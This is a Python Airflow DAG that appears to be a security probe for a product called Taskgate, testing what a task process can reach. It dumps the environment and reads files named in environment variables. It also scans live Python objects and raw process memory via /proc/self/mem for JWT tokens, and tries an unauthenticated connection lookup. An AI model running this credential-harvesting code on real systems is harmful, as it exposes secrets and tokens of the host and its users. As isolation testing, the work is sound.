"""A task that looks around in its own process, at what Airflow has given it and what that names.

conf: `seconds` it stays afterwards.

To show: what is not there (a key of Taskgate's, the password of any target, a token that is of use to anybody else),
and what is: under the LocalExecutor a task has the scheduler's environment, and reads every file that the scheduler
reads."""

from __future__ import annotations

import gc
import os
import re
import time
import urllib.error
import urllib.request
from pathlib import Path

from airflow.sdk import Param, dag, get_current_context, task
from attack_record import attempt, note

JWT = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}")
MOST = 256 * 1024


def _told_of() -> dict[str, str]:
    """Every file that a variable of the environment names, anywhere in it."""
    found = {}
    for value in os.environ.values():
        for path in re.findall(r"/[\w./@-]+", value):
            if Path(path).is_file() and path not in found:
                found[path] = Path(path).read_bytes()[:MOST].decode("latin-1")
    return found


def _objects() -> list[str]:
    """Tokens that live objects of this process hold."""
    texts = set()
    for one in gc.get_objects():
        values = one.values() if type(one) is dict else one if type(one) in (list, tuple, set) else ()
        for value in list(values):
            if type(value) in (str, bytes):
                texts.update(JWT.findall(value.encode(errors="replace") if type(value) is str else value))
    return sorted(one.decode() for one in texts)


def _memory() -> list[str]:
    """Tokens anywhere in this process's memory, what it has from its supervisor by forking included."""
    texts = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:  # noqa: PTH123
        for line in maps:
            where, mode, *_ = line.split()
            if not mode.startswith("rw") or "[v" in line:
                continue
            start, end = (int(one, 16) for one in where.split("-"))
            try:
                memory.seek(start)
                texts.update(JWT.findall(memory.read(end - start)))
            except OSError:
                continue
    return sorted(one.decode() for one in texts)


def _without_a_token(conn_id: str) -> int:
    url = os.environ["AIRFLOW__CORE__EXECUTION_API_SERVER_URL"]
    try:
        with urllib.request.urlopen(f"{url}connections/{conn_id}", timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


@dag(schedule=None, catchup=False, params={"seconds": Param(0)})
def attack_looks():
    @task(retries=0)
    def looks():
        from airflow.providers.postgres.hooks.postgres import PostgresHook

        context = get_current_context()
        name = context["run_id"]
        attempt(name, "governed", lambda: PostgresHook("orders_db").get_first("SELECT 1"))
        note(name, what="environment", ok=True, found=dict(os.environ))
        attempt(name, "told of", _told_of)
        attempt(name, "objects", _objects)
        attempt(name, "memory", _memory)
        attempt(name, "without a token", lambda: _without_a_token("orders_db"))
        time.sleep(context["params"]["seconds"])

    looks()


attack_looks()
